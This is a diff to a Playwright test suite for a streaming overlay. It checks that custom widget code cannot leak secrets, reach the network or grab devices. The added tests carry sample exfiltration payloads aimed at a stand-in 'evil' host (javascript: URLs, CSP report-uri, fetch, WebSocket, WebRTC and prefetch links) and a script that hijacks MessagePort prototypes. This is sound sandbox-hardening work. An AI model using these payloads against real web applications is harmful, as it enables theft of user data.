@@ -1,4 +1,7 @@
+import { readFile } from 'node:fs/promises';
+import { chromium } from '@playwright/test';
 import { donate } from './support/api.ts';
+import { notInObs, obsChromium, obsFlags } from './support/chromium.ts';
 import { addCustomWidget, widgetFrame } from './support/customWidget.ts';
 import { type EvilServer, openEvilServer } from './support/evilServer.ts';
 import { expect, test } from './support/fixtures.ts';
@@ -67,6 +70,10 @@ const attacks: Readonly<Record<string, string>> = {
   'blob: document':
     "location.href = URL.createObjectURL(new Blob(['<img src=\"' + EVIL + 'blob-document?' + secret + '\">'], { type: 'text/html' }))",
   'own location': "location.href = EVIL + 'location?' + secret",
+  'javascript: location': "location.href = 'javascript:void(new Image().src=\"' + EVIL + 'javascript\")'",
+  'the companion’s own page': "location.href = 'http://127.0.0.1:' + location.port + '/#' + secret",
+  'a policy’s reports':
+    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-uri \" + EVIL + 'report' })); new Image().src = 'data:,'",
 };
 
 /** What the widget must not be able to read; each is an expression that throws, or is empty. */
@@ -75,7 +82,10 @@ const reads: Readonly<Record<string, string>> = {
   'the parent’s address': 'parent.location.href',
   'the parent’s storage': 'parent.localStorage.length',
   'cookies of the page': 'document.cookie',
-  'its own storage': "window.indexedDB.open('x').then",
+  'a database': "window.indexedDB.open('x')",
+  'its own storage': "Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage')?.get.call(window).length",
+  'a channel to pages of its origin': "new BroadcastChannel('x').name && self.origin !== 'null' && self.origin",
+  caches: "'caches' in window && window.caches",
   'the referrer beyond an origin': "/key|#|\\?/.test(document.referrer) ? document.referrer : ''",
   'the key in its address': "/key/.test(location.href) ? location.href : ''",
   'other frames':
@@ -103,7 +113,17 @@ const prelude = (server: EvilServer) => `
 `;
 
 /** They leave the widget's document, which ends it. */
-const leaving = ['document.write', 'meta', 'anchor', 'download', 'form', 'data: document', 'blob: document', 'own location'];
+const leaving = [
+  'document.write',
+  'meta',
+  'anchor',
+  'download',
+  'form',
+  'data: document',
+  'blob: document',
+  'own location',
+  'the companion’s own page',
+];
 
 test('[CUS-43] nothing that a widget knows reaches a socket, whatever the widget tries', async ({ product, openOverlay }) => {
   test.setTimeout(90_000);
@@ -140,7 +160,7 @@ test('[CUS-43] nothing that a widget knows reaches a socket, whatever the widget
   await donate(product, { amount: 25, donorName: 'Ada Secret' });
   await expect(widgetFrame(overlay).locator('#tried')).toHaveText(String(staying.length), { timeout: 30_000 });
   // Those that reach another document end with it; the others are refused and stay.
-  await expect.poll(() => overlay.locator('iframe.frame').count(), { timeout: 15_000 }).toBeLessThan(4);
+  await expect.poll(() => overlay.locator('iframe.frame').count(), { timeout: 15_000 }).toBeLessThan(5);
   expect(evil.heard).toEqual([]);
   expect(overlay.url()).toBe(address);
   expect(overlay.context().pages()).toHaveLength(1);
@@ -160,4 +180,108 @@ test('[CUS-43] a widget reads nothing of the overlay, of other widgets or of OBS
   await addCustomWidget(product, { html: '<p>neighbour</p>' }, { box: 'other' });
   const overlay = await openOverlay();
   await expect(widgetFrame(overlay).locator('#got')).toHaveText('[]');
+});
+
+test('[CUS-40] [CUS-43] a widget that replaces the functions of its window gets no hold of its port', async ({ product, openOverlay }) => {
+  const js = `
+    const listen = EventTarget.prototype.addEventListener;
+    let stolen = 0;
+    const replace = (object, name) => Object.defineProperty(object, name, { get() { stolen += 1; }, set() { stolen += 1; } });
+    for (const name of ['postMessage', 'start', 'onmessage', 'close']) replace(MessagePort.prototype, name);
+    for (const name of ['data', 'ports', 'source']) replace(MessageEvent.prototype, name);
+    EventTarget.prototype.addEventListener = function (...all) {
+      if (this !== window) stolen += 1;
+      return listen.apply(this, all);
+    };
+    Event.prototype.stopImmediatePropagation = () => {};
+    listen.call(window, 'message', () => (stolen += 1));
+    listen.call(window, 'onWidgetLoad', () => setTimeout(() => (document.querySelector('#stolen').textContent = stolen), 5000));
+  `;
+  await addCustomWidget(product, { html: '<p id="stolen"></p>', js });
+  const overlay = await openOverlay();
+  // By then it has been pinged twice.
+  await expect(widgetFrame(overlay).locator('#stolen')).toHaveText('0');
+});
+
+test('[CUS-43] a widget names no host to a resolver', async ({ product, obs }, testInfo) => {
+  const log = testInfo.outputPath('net-log.json');
+  const executablePath = await obsChromium(obs);
+  const browser = await chromium.launch({
+    ...(executablePath && { executablePath }),
+    args: [...obsFlags, `--log-net-log=${log}`],
+    ignoreDefaultArgs: notInObs,
+  });
+  const js = `
+    const HOST = 'ada-secret.evil.example';
+    function add(tag, properties) { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; }
+    window.addEventListener('onWidgetLoad', () => {
+      const runs = [
+        ...['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'stylesheet', 'icon'].map((rel) => () => add('link', { rel, href: 'http://' + HOST + '/' + rel })),
+        () => add('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' }),
+        () => add('a', { href: 'https://' + HOST + '/', textContent: 'x' }).dispatchEvent(new MouseEvent('mouseover', { bubbles: true })),
+        () => fetch('https://' + HOST + '/'),
+        () => (new Image().src = 'http://' + HOST + '/'),
+        () => new WebSocket('ws://' + HOST + '/'),
+        () => add('iframe', { src: 'http://' + HOST + '/' }),
+        () => new (add('iframe', {}).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: 'stun:' + HOST }] }).createDataChannel('x'),
+        () => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + HOST + "/')"]))),
+        () => (top.location = 'http://' + HOST + '/'),
+      ];
+      for (const run of runs) try { run(); } catch {}
+      setTimeout(() => (location = 'http://' + HOST + '/'), 1_500);
+    });
+  `;
+  await addCustomWidget(product, { js });
+  const overlay = await browser.newPage();
+  await overlay.goto(product.overlay);
+  await expect(overlay.locator('iframe.frame')).toHaveCount(1);
+  // It has tried all of them, and left.
+  await expect(overlay.locator('iframe.frame')).toHaveCount(0);
+  await overlay.goto('http://heard.example/').catch(() => {}); // there is no such host, and the log says that it was looked up
+  await browser.close();
+  const hosts = await readFile(log, 'utf8');
+  expect(hosts).toContain('heard.example');
+  expect(hosts).not.toContain('evil.example');
+});
+
+test('[CUS-43] a widget opens no dialog, takes no screen, no pointer and no device, and notifies nobody', async ({
+  product,
+  openOverlay,
+}) => {
+  const js = `
+    window.addEventListener('onWidgetLoad', async () => {
+      const got = [];
+      const tries = {
+        alert: () => alert('a'),
+        confirm: () => confirm('b'),
+        prompt: () => prompt('c'),
+        print: () => print(),
+        window: () => window.open('about:blank'),
+        fullscreen: () => document.documentElement.requestFullscreen().then(() => 'full'),
+        pointer: () => document.body.requestPointerLock()?.then(() => 'locked'),
+        notifications: () => Notification.requestPermission().then((answer) => answer === 'granted' && answer),
+        notification: () => Notification.permission === 'granted' && 'granted',
+        camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
+        screen: () => navigator.mediaDevices.getDisplayMedia(),
+        place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
+        clipboard: () => navigator.clipboard.readText(),
+        'wake lock': () => navigator.wakeLock.request('screen'),
+        key: () => navigator.keyboard?.lock(),
+        usb: () => navigator.usb?.requestDevice({ filters: [] }),
+      };
+      for (const [name, run] of Object.entries(tries)) try { if (await run()) got.push(name); } catch {}
+      document.querySelector('#got').textContent = JSON.stringify(got);
+    });
+  `;
+  await addCustomWidget(product, { html: '<p id="got"></p>', js });
+  const overlay = await openOverlay();
+  const dialogs: string[] = [];
+  overlay.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await expect(widgetFrame(overlay).locator('#got')).toHaveText('[]');
+  expect(dialogs).toEqual([]);
+  expect(overlay.context().pages()).toHaveLength(1);
+  expect(await overlay.evaluate(() => document.fullscreenElement ?? document.pointerLockElement)).toBeNull();
 });
